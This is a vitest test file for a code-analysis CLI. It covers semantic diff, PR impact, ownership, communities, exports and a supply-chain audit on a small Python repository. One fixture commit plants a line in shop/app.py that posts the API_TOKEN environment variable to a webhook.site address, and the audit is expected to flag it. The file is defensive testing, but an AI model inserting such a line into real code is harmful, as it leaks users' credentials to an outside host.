/** Communities, semantic diff, pull requests, ownership, supply chain, export and report, as processes on one small repository. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { expect, it } from 'vitest';
import { newRepository, newUser } from './knowing.ts';

const PARSE = `
    fields = check(text).split(',')
    values = [int(f.strip()) for f in fields if f]
    return sum(values) / max(1, len(values))
`;
const LOAD = `
    with open(path, encoding='utf8') as file:
        for line in file:
            yield parse(line.rstrip())
`;
const FIRST = {
  'shop/rows.py': `def check(text):\n    return text\n\n\ndef parse(text):${PARSE}\n\ndef load(path):${LOAD}`,
  'shop/app.py': 'from shop.rows import load\n\n\nclass App:\n    def run(self, path):\n        return list(load(path))\n',
  'tests/test_app.py': "from shop.app import App\n\n\ndef test_run():\n    assert App().run('x')\n",
  CODEOWNERS: '* @everyone\n/shop/ @shopkeepers\n',
};
const SECOND = {
  'shop/rows.py': `def check(text):\n    return text\n\n\ndef parse_row(text):${PARSE}`,
  'shop/files.py': `from shop.rows import parse_row\n\n\ndef load(path):${LOAD.replace('parse(', 'parse_row(')}`,
  'shop/app.py':
    'import os\nimport requests\nfrom shop.files import load\n\n\nclass App:\n    def run(self, path):\n        requests.post("https://webhook.site/x", os.environ["API_TOKEN"])\n        return list(load(path))\n',
};

let user: ReturnType<typeof newUser>;
let root: string;

/** Two commits by two people: a rename, a move, and an addition that nobody should want. */
async function setUp(): Promise<void> {
  user = newUser();
  root = newRepository(FIRST, 'shop');
  commit(SECOND, 'Bob');
  await user.knowing(['add', '--no-progress'], { cwd: root });
}

function commit(files: Readonly<Record<string, string>>, author: string): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', `user.name=${author}`, '-c', `user.email=${author}@x.org`, ...args], { cwd: root, stdio: 'pipe' });
  git('add', '--all');
  git('commit', '--quiet', '--message', 'second');
}

async function json(args: readonly string[]) {
  const { code, stdout, stderr } = await user.knowing([...args, '--json'], { cwd: root });
  if (code !== 0 && code !== 1) throw new Error(stderr + stdout);
  return JSON.parse(stdout);
}

it('changes: renamed and moved, not removed and added; impact, audit and its exit code', async () => {
  await setUp();
  const diff = await json(['diff', '--semantic']);
  const said = diff.changes.map(
    (c: { change: string; before?: { name: string }; after?: { name: string; file: string } }) =>
      `${c.change} ${c.before?.name ?? '-'} ${c.after?.name ?? '-'}`,
  );
  expect(said).toContain('renamed parse parse_row');
  expect(said).toContain('moved load load');
  expect(diff.counts).toMatchObject({ removed: 0, added: 0 });

  const impact = await json(['pr-impact', 'HEAD~1..HEAD']);
  expect(impact.risk.level).toBe('high');
  expect(impact.reviewers[0]).toMatchObject({ name: '@shopkeepers' });
  expect(impact.tests.listed.map((t: { name: string }) => t.name)).toContain('test_run');
  expect(impact.dependents.listed.map((d: { name: string }) => d.name)).toContain('test_run');

  const audit = await user.knowing(['audit-supply-chain', 'HEAD', '--fail-on-suspicious', '--format', 'sarif'], { cwd: root });
  expect(audit.code).toBe(1);
  const { results } = JSON.parse(audit.stdout).runs[0];
  expect(results.map((r: { ruleId: string }) => r.ruleId)).toEqual(['suspicious-address', 'secrets-and-network']);
  expect((await user.knowing(['audit-supply-chain', 'HEAD~1', '--fail-on-suspicious'], { cwd: root })).code).toBe(0);
  const { added } = await json(['audit-diff', 'HEAD']);
  expect(added.map((f: { capability: string; name: string }) => `${f.capability} ${f.name}`)).toContain('environment API_TOKEN');
});

it('ownership: rules and authors; blame is kept, and only once worked out', async () => {
  await setUp();
  const first = await json(['enrich', 'blame', '--no-progress']);
  expect(first).toMatchObject({ layer: 'blame', filled: first.units, unchanged: 0 });
  expect(await json(['enrich', 'blame', '--no-progress'])).toMatchObject({ filled: 0, unchanged: first.units });
  const file = await json(['ownership', 'shop/files.py']);
  expect(file).toMatchObject({ owners: [{ owners: ['@shopkeepers'], line: 2 }], bus_factor: 1, authors: [{ author: 'Bob' }] });
  expect(await json(['ownership', 'CODEOWNERS'])).toMatchObject({ kind: 'file', owners: [{ owners: ['@everyone'] }], blamed: 1 });
  const { packages } = await json(['ownership']);
  expect(packages.map((p: { subject: string }) => p.subject).sort()).toEqual(['shop', 'tests']);
});

it('the graph as a whole: communities, report, audit, exports', async () => {
  await setUp();
  const fresh = await json(['communities']);
  expect(fresh.origin).toBe('fresh');
  expect(await json(['communities'])).toEqual({ ...fresh, origin: 'kept' });
  const report = await json(['report']);
  expect(report.packages.map((p: { package: string }) => p.package)).toEqual(['shop']);
  const audit = await json(['audit']);
  expect(audit.counts).toMatchObject({ environment: 1, network: 1 });
  expect(audit.isolation).toBeLessThan(1);
  const dot = await user.knowing(['export', '--format', 'dot', '--symbol', 'load'], { cwd: root });
  expect(dot.stdout).toMatch(/^digraph[\s\S]*"load"[\s\S]*"parse_row"/);
  const scip = await user.knowing(['export', '--format', 'scip'], { cwd: root });
  expect(scip.stderr).toMatch(/4 documents/);
  expect((await user.knowing(['export'], { cwd: root })).code).toBe(2);
});
